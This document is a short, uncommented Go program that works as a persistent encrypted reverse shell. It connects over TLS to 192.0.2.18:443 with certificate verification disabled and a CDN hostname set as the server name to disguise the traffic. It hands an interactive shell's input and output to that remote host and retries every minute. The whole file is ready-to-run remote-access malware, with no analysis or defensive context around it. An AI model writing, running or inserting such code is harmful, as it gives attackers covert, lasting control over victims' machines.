package main

import (
	"crypto/tls"
	"os"
	"os/exec"
	"time"
)

func dial(addr string) error {
	c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, ServerName: "cdn.example.com"})
	if err != nil {
		return err
	}
	defer c.Close()
	sh := os.Getenv("SHELL")
	if sh == "" {
		sh = "/bin/sh"
	}
	cmd := exec.Command(sh, "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	return cmd.Run()
}

func main() {
	for {
		_ = dial("192.0.2.18:443")
		time.Sleep(time.Minute)
	}
}
